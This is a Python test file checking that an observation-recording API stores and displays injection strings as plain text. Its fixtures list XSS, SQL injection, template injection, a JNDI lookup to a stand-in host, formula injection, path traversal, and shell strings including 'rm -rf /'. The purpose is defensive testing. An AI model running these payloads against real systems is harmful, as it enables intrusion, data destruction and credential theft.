"""Texts that are code to somebody: kept to the letter, shown as text, run by nobody."""

from __future__ import annotations

import re
from html import unescape
from html.parser import HTMLParser

import pytest
from sqlalchemy import Engine, inspect

from tests.api.county import HERE, UNIT, YEAR, County

TEXTS = {
    "script": "通报<script>alert(1)</script>结果",
    "script over tags": "</span></details></section><script>alert(1)</script>",
    "an image": "照片<img src=x onerror=alert(1)>附后",
    "SVG": "<svg/onload=alert(1)>",
    "a frame": "<iframe src=javascript:alert(1)></iframe>",
    "out of an attribute": '" onmouseover="alert(1)',
    "out of an attribute, singly": "' onfocus='alert(1)' autofocus='",
    "an entity": "&quot;&lt;b&gt;&#60;script&#62;&amp;",
    "a comment": "<!-- 备注 --> --!> ]]>",
    "Chinese with markup": "第三季度<b>被通报</b>2次，详见<a href='javascript:alert(1)'>附件</a>。",
    "full-width markup": "＜script＞alert(1)＜/script＞",
    "a style": "<style>*{display:none}</style>",
    "a base": "<base href=//example.com/>",
    "SQL": "'; DROP TABLE events; --",
    "SQL in double quotes": '"); DELETE FROM events WHERE ("1"="1',
    "a Jinja template": "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "a shell": "$(id) `id` ${IFS} ; rm -rf /",
    "a Python format": "{0.__class__.__init__.__globals__} %(x)s %n",
    "a log line": "${jndi:ldap://example.com/a}",
    "Typst": '#read("/etc/passwd") $ #panic() $',
    "a formula": '=HYPERLINK("https://example.com","点此")',
    "a formula by plus": "+1+cmd|' /C calc'!A0",
    "a formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a path": "../../../../etc/passwd",
    "a percent escape": "%3Cscript%3E%00%0d%0a",
}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses |= {value or "" for name, value in attrs if name in ("href", "src")}


def shown(html: str) -> _Tags:
    tags = _Tags()
    tags.feed(html)
    return tags


@pytest.fixture(scope="module")
def told(shared: County) -> dict[str, str]:
    """Each text as the title, place and note of an observation; the observation's id by the text's name."""
    return {
        name: shared.record(
            kind="circular",
            occurred_on="2021-05-06",
            evidence=[{"title": text, "document": text, "locator": text}],
            note=text,
        )
        for name, text in TEXTS.items()
    }


@pytest.mark.parametrize("name", TEXTS)
def test_a_text_is_kept_to_the_letter(shared: County, told: dict[str, str], name: str) -> None:
    [entry] = shared.get(f"{HERE}/observations/{told[name]}")["entries"]
    [evidence] = entry["evidence"]

    assert {entry["note"], evidence["title"], evidence["document"], evidence["locator"]} == {TEXTS[name]}


@pytest.mark.usefixtures("told")
def test_a_text_is_shown_as_text(shared: County) -> None:
    plain = shown(shared.client.get(f"{YEAR}/derivations/大桥街道?format=html").text)
    answer = shared.client.get(f"{YEAR}/derivations/{UNIT}?format=html")
    page = shown(answer.text)
    words = unescape(re.sub("<[^>]*>", "", answer.text))

    assert [name for name, text in TEXTS.items() if text not in words] == []
    assert page.found <= plain.found | {"details", "summary", "div", "span", "a", "blockquote"}
    assert page.attributes <= {"class", "lang", "data-node", "open", "href", "rel"}
    assert not [one for one in page.addresses if not one.startswith(("/api/", "https://", "http://"))]
    assert "default-src 'none'" in answer.headers["content-security-policy"]
    assert answer.headers["x-content-type-options"] == "nosniff"


@pytest.mark.usefixtures("told")
def test_a_text_in_a_plain_derivation_stands_as_it_is(shared: County) -> None:
    answer = shared.client.get(f"{YEAR}/derivations/{UNIT}?format=text")

    assert [name for name, text in TEXTS.items() if text not in answer.text] == []
    assert answer.headers["content-type"] == "text/plain; charset=utf-8"
    assert answer.headers["x-content-type-options"] == "nosniff"


@pytest.mark.usefixtures("told")
def test_no_text_was_run_by_the_database(shared: County, shared_engine: Engine) -> None:
    assert "events" in inspect(shared_engine).get_table_names()
    assert shared.size() >= len(TEXTS)


ADDRESSES = {
    "script": "javascript:alert(1)",
    "script in capitals": "JaVaScRiPt:alert(1)",
    "script behind a tab": "java\tscript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "a file": "file:///etc/passwd",
    "no scheme": "//example.com/",
    "a relative address": "../../keys",
    "white space": "https://example.com/ onclick=alert(1)",
    "a line end": "https://example.com/\nX: y",
    "a bidi control": "https://example.com/\u202egpj.exe",
    "nothing behind the scheme": "https://",
    "long": "https://example.com/" + "a" * 2000,
}


@pytest.mark.parametrize("name", ADDRESSES)
def test_an_address_that_is_none_is_refused(shared: County, name: str) -> None:
    before = shared.size()
    refused = shared.post(
        f"{YEAR}/observations",
        {
            "unit": UNIT,
            "kind": "circular",
            "occurred_on": "2021-03-29",
            "attributes": {"level": "municipal", "subject": "new_media", "period": "quarterly"},
            "evidence": [{"title": "通报", "url": ADDRESSES[name]}],
        },
    )

    assert [(one["code"], one["where"]) for one in refused.json()["errors"]] == [("field-invalid", "evidence[0].url")]
    assert shared.size() == before


def test_an_official_document_is_shown_as_text(new_document: str, shared: County) -> None:
    answer = shared.client.get(new_document)
    page = shown(answer.text)

    assert not {"script", "img", "svg", "iframe", "base", "b"} & page.found
    assert [name for name, text in TEXTS.items() if text not in unescape(re.sub("<[^>]*>", "", answer.text))] == []
    assert "script-src" not in answer.headers["content-security-policy"]
    assert "default-src 'none'" in answer.headers["content-security-policy"]


@pytest.fixture
def new_document(shared: County) -> str:
    """The lines of an official document whose title and lines are all of the texts."""
    path = f"{HERE}/schemes/zhangshu-2021/versions/1/document"
    registered = shared.client.post(
        path,
        params={"title": TEXTS["Chinese with markup"]},
        content="\n".join(TEXTS.values()).encode(),
        headers={"Content-Type": "text/plain", "Idempotency-Key": "document"},
    )
    assert registered.status_code == 201, registered.text
    return f"{path}/lines"
